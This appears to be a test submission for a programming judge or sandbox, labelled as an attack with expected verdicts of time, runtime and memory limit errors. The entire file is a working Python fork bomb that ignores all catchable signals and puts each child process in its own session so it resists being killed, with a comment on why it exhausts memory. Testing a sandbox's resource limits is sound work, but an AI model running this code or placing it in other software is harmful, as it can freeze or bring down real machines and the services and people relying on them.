# attack: fork bomb whose processes are in sessions of their own and ignore what can be ignored
# verdict: TLE RTE MLE
# The kernel frees what a refused fork took only later: on a busy machine that reaches the memory limit first.
import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
